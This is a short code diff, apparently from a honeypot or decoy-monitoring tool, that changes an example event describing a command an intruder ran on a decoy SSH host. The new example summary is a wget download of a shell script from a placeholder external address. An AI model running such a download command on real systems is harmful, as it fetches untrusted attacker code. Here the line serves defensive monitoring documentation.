@@ -85,6 +85,6 @@ func deckyEntries() []Entry {
 		Name: "DeckyTraffic", Topic: "decky.{id}.traffic", Pattern: "decky.*.traffic",
 		Purpose: "A client did something on a decky: tried a login, gave a command, left a file. What it sent is evidence, sealed beside it; here is a redacted summary.",
 		Level:   Low, Subject: "command on web-3 (ssh)",
-		Example: DeckyTraffic{Contact: exampleContact(), Type: "command", Number: 7, Interaction: true, Summary: "uname -a"},
+		Example: DeckyTraffic{Contact: exampleContact(), Type: "command", Number: 7, Interaction: true, Summary: "wget http://203.0.113.77/x.sh", Hosts: []string{"203.0.113.77"}},
 	}}
 }
